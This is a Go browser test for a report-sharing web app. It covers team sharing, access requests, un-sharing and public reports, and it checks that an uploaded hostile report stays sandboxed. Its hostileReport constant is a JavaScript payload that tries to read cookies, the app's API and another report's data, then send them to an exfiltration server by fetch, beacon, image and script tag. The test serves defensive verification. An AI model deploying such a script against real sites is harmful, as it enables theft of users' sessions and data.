package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/assent-hq/assent/internal/browsertest"
)

// hostileReport is a report whose script tries to read what it must not:
// the app's cookies and pages, the API with the reader's credentials, and
// another report's dataset. It writes what it managed into #out.
const hostileReport = `<!doctype html><html lang="en"><title>Hostile</title><main><h1>Hostile</h1><pre id="out">pending</pre></main>
<script>
(async () => {
  const out = {cookie: document.cookie};
  const grab = async (name, url) => {
    try { const r = await fetch(url, {credentials: "include"}); out[name] = "read " + r.status + ": " + (await r.text()).slice(0, 200); }
    catch (e) { out[name] = "blocked"; }
  };
  await grab("api", APP + "/api/v1/reports");
  await grab("inbox", APP + "/inbox");
  await grab("data", DASH + "/_data/metrics");
  await grab("exfil", EXFIL + "/fetch");
  try { navigator.sendBeacon(EXFIL + "/beacon", "x"); } catch (e) {}
  new Image().src = EXFIL + "/image";
  const s = document.createElement("script"); s.src = EXFIL + "/script"; document.head.appendChild(s);
  await new Promise(r => setTimeout(r, 300));
  try { out.opener = String(window.opener && window.opener.document.cookie); } catch (e) { out.opener = "blocked"; }
  document.getElementById("out").textContent = JSON.stringify(out);
})();
</script></html>`

// TestBrowserReadingReports is issue 17's "done when" on assent dev: an
// agent publishes the dashboard template with a dataset and shares it
// with a team; a member of the team signs in from the dev mailbox and sees
// the chart fed by _data/, framed in the app and on its own; a member
// outside the team is refused and asks for access (the webhook receives
// access.requested); and a hostile report in the same organisation reads
// neither the app's session nor the dashboard's data.
func TestBrowserReadingReports(t *testing.T) {
	browsertest.Require(t)
	t.Setenv("ASSENT_DEV_ALLOW_LOOPBACK", "1")
	var mu sync.Mutex
	var hooks []struct {
		Event string
		Data  json.RawMessage
	}
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		var body struct {
			Event string
			Data  json.RawMessage
		}
		_ = json.Unmarshal(raw, &body)
		mu.Lock()
		hooks = append(hooks, body)
		mu.Unlock()
	}))
	defer recv.Close()
	hooked := func(event, contains string) bool {
		mu.Lock()
		defer mu.Unlock()
		for _, h := range hooks {
			if h.Event == event && strings.Contains(string(h.Data), contains) {
				return true
			}
		}
		return false
	}

	apiURL, boot, _, stop := startDemo(t)
	defer stop()
	var ep map[string]any
	require.Equal(t, 201, postJSON(t, apiURL+"/api/v1/admin/webhooks", boot.AdminKey, fmt.Sprintf(`{"url":%q}`, recv.URL+"/hook"), &ep))
	var outsider map[string]any
	require.Equal(t, 201, postJSON(t, apiURL+"/api/v1/admin/members", boot.AdminKey,
		`{"email":"nina@example.com","name":"Nina Outsider","role":"member"}`, &outsider), "%v", outsider)

	var dash struct{ ID, Slug, URL string }
	require.Equal(t, 201, postJSON(t, apiURL+"/api/v1/reports/tpl_dashboard/copy", boot.AgentKey, `{"slug":"ops/dashboard"}`, &dash))
	var shared map[string]any
	require.Equal(t, 200, postJSON(t, apiURL+"/api/v1/reports/ops%2Fdashboard/share", boot.AgentKey, `{"audience":["Operations"]}`, &shared), "%v", shared)
	metrics := `{"title":"Operations","updatedAt":"2026-11-25T09:00:00Z","kpis":[{"label":"Tickets closed","value":4711,"unit":"","change":3.5}],` +
		`"series":{"label":"Closed per day","unit":"","points":[{"x":"Mon","y":10},{"x":"Tue","y":12}]}}`
	req, _ := http.NewRequest(http.MethodPut, apiURL+"/api/v1/reports/"+dash.ID+"/data/metrics", strings.NewReader(metrics))
	req.Header.Set("Authorization", "Bearer "+boot.AgentKey)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, 201, resp.StatusCode)

	// Mia is in Operations: the app frames the dashboard from its own
	// origin (the frame signs her in there: report.viewed names her)...
	mia := browsertest.New(t)
	signInFromDevMail(t, mia, apiURL, "mia@example.com")
	mia.Navigate(apiURL + "/reports")
	assert.Contains(t, mia.Text("main"), "Live dashboard")
	mia.Navigate(dash.URL)
	assert.Contains(t, mia.Text("main"), "Shared with")
	mia.CheckAccessibility("a report's page")
	dashOrigin := frameOrigin(t, mia)
	require.Eventually(t, func() bool { return hooked("report.viewed", "mia@example.com") }, 20*time.Second, 100*time.Millisecond,
		"the framed dashboard was opened as Mia")

	// ... and on its own origin the chart is drawn from _data/metrics.
	mia.Navigate(dashOrigin + "/")
	require.Eventually(t, func() bool { return strings.Contains(mia.Text("#kpis"), "Tickets closed") }, 10*time.Second, 100*time.Millisecond)
	assert.Contains(t, mia.Text("#kpis"), "4,711")
	assert.True(t, strings.HasPrefix(mia.Location(), dashOrigin), mia.Location())

	// Another origin the hostile report tries to send what it read to.
	var exfiltrated atomic.Int32
	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		exfiltrated.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer exfil.Close()
	hostile := strings.NewReplacer("APP", fmt.Sprintf("%q", apiURL), "DASH", fmt.Sprintf("%q", dashOrigin),
		"EXFIL", fmt.Sprintf("%q", exfil.URL)).Replace(hostileReport)
	var hostileRep struct {
		ID, URL string
		Version struct{ Status string }
	}
	body, _ := json.Marshal(map[string]any{"title": "Hostile", "slug": "ops/hostile", "content": hostile, "audience": []string{"Operations"}})
	require.Equal(t, 201, postJSON(t, apiURL+"/api/v1/reports", boot.AgentKey, string(body), &hostileRep))
	require.Equal(t, "live", hostileRep.Version.Status)
	mia.Navigate(hostileRep.URL)
	hostileOrigin := frameOrigin(t, mia)

	// The hostile report gets nothing it should not.
	mia.Navigate(hostileOrigin + "/")
	var got map[string]string
	require.Eventually(t, func() bool { return json.Unmarshal([]byte(mia.Text("#out")), &got) == nil }, 10*time.Second, 100*time.Millisecond)
	assert.Equal(t, "", got["cookie"], "no cookie is readable: the reader cookie is HttpOnly and the app's never comes here")
	assert.Equal(t, "blocked", got["api"], "the app's API cannot be read from a report")
	assert.Equal(t, "blocked", got["inbox"], "the app's pages cannot be read from a report")
	assert.Equal(t, "blocked", got["data"], "another report's dataset cannot be read")
	assert.Equal(t, "blocked", got["exfil"], "a report cannot fetch another origin")
	assert.Zero(t, exfiltrated.Load(), "nothing the report tried (fetch, beacon, image, script) reached another origin")

	// Un-sharing takes effect on the next load.
	unshare, _ := http.NewRequest(http.MethodDelete, apiURL+"/api/v1/reports/"+dash.ID+"/share", strings.NewReader(`{"audience":["Operations"]}`))
	unshare.Header.Set("Authorization", "Bearer "+boot.AgentKey)
	unshare.Header.Set("Content-Type", "application/json")
	resp, err = http.DefaultClient.Do(unshare)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, 200, resp.StatusCode)
	mia.Navigate(dashOrigin + "/")
	assert.Contains(t, mia.Text("main"), "You cannot read this report")

	// A public report (a person may make one) opens in a fresh browser,
	// nobody signed in, at its url as at its origin; the view is
	// anonymous.
	owner := demoMember(t, boot, "owner")
	var public struct{ URL string }
	require.Equal(t, 201, postJSON(t, apiURL+"/api/v1/reports", owner.Token,
		`{"title":"Open letter","slug":"open-letter","content":"<!doctype html><html lang=\"en\"><title>Open letter</title><main><h1>Dear all</h1></main></html>","audience":["public"]}`, &public))
	mia.Navigate(public.URL)
	publicOrigin := frameOrigin(t, mia)
	stranger := browsertest.New(t)
	stranger.Navigate(public.URL)
	assert.Equal(t, "Dear all", stranger.Text("h1"))
	assert.True(t, strings.HasPrefix(stranger.Location(), publicOrigin), stranger.Location())
	stranger.Navigate(publicOrigin + "/")
	assert.Equal(t, "Dear all", stranger.Text("h1"))

	// Nina is outside the team: refused, she asks for access.
	nina := browsertest.New(t)
	signInFromDevMail(t, nina, apiURL, "nina@example.com")
	nina.Navigate(dashOrigin + "/")
	assert.Contains(t, nina.Text("main"), "You cannot read this report")
	nina.CheckAccessibility("the request-access page")
	nina.ClickAndWait(`form[action$="/access"] button`)
	assert.Contains(t, nina.Text("main"), "Access requested")
	require.Eventually(t, func() bool { return hooked("access.requested", "nina@example.com") }, 20*time.Second, 100*time.Millisecond,
		"the owner's webhook hears of the request")
	devMail(t, apiURL, "admin@example.com", "Nina Outsider asks to read")
}

// frameOrigin is the origin of the report the app's page frames.
func frameOrigin(t *testing.T, b *browsertest.Browser) string {
	t.Helper()
	src, err := chromedp.Run(b.Context(), chromedp.AttributeValue(chromedp.CSS("iframe.report"), "src"))
	require.NoError(t, err)
	require.True(t, src.Exists, "the page frames no report")
	u, err := url.Parse(src.Value)
	require.NoError(t, err)
	return u.Scheme + "://" + u.Host
}
